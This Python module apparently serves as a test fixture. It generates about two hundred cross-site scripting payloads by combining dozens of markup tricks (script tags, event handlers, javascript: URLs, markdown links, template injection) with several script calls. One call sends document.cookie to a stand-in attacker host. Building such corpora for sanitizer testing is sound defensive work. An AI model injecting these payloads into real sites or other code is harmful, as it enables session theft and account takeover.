"""Texts that become scripts where a page takes texts for markup: each trick with each call."""

from __future__ import annotations

from itertools import product

_CALLS = (
    "alert(1)",
    "alert`1`",
    "top.alert(document.domain)",
    "eval('al'+'ert(1)')",
    "fetch('//evil.example/'+document.cookie)",
)
_TRICKS = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<script/x>{0}</script>",
    "</script><script>{0}</script>",
    "<img src=x onerror={0}>",
    '<img src=x onerror="{0}">',
    '"><img src=x onerror={0}>',
    "'><img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<body onload={0}>",
    '<iframe src="javascript:{0}"></iframe>',
    '<iframe srcdoc="<script>{0}</script>"></iframe>',
    '<object data="javascript:{0}"></object>',
    '<embed src="javascript:{0}">',
    '<a href="javascript:{0}">x</a>',
    '<a href="java\tscript:{0}">x</a>',
    "[x](javascript:{0})",
    "[x](JaVaScRiPt:{0})",
    '![x](x"onerror="{0})',
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}></select>",
    "<textarea autofocus onfocus={0}></textarea>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>",
    "<marquee onstart={0}>x</marquee>",
    "<math><mtext><img src=x onerror={0}></mtext></math>",
    "<style>@import 'javascript:{0}';</style>",
    '<div style="background:url(javascript:{0})">x</div>',
    '<link rel=stylesheet href="javascript:{0}">',
    '<meta http-equiv=refresh content="0;url=javascript:{0}">',
    '<base href="javascript:{0}//">',
    '<form action="javascript:{0}"><button>x</button></form>',
    "<template><script>{0}</script></template>",
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "\x1b[31m<img src=x onerror={0}>\x1b[0m",
)

PAYLOADS = tuple(trick.format(call) for trick, call in product(_TRICKS, _CALLS))
